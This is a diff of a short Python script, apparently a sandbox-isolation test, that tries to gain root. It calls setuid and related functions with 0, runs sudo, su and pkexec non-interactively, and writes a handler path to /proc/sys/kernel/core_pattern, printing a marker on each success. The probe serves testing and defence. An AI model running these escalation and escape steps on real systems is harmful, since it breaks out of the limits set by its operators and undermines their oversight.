@@ -8,18 +8,22 @@ import os
 import shutil
 import subprocess
 
-for call in (os.setuid, os.setgid, os.setreuid, os.setresuid):
+if os.getuid() == 0:
+    print("got", MARKER)
+for call, arguments in ((os.setuid, [0]), (os.setgid, [0]), (os.setresuid, [0, 0, 0]), (os.setgroups, [[0]])):
     try:
-        call(*[0] * (3 if call is os.setresuid else 2 if call is os.setreuid else 1))
-        print("root by", call.__name__)
+        call(*arguments)
+        print("got", MARKER)
     except OSError as error:
         print(error)
-for program in ("sudo", "su", "mount", "passwd", "pkexec"):
+for program in ("sudo", "su", "pkexec"):
     if path := shutil.which(program):
-        done = subprocess.run([path, "-c", "id"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5)
-        print(program, done.stdout, done.stderr)
+        done = subprocess.run([path, "-n", "id"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=2)
+        if "uid=0" in done.stdout:
+            print("got", MARKER)
 try:
     with open("/proc/sys/kernel/core_pattern", "w") as file:
         file.write("|/workspace/mine")
+    print("got", MARKER)
 except OSError as error:
     print(error)
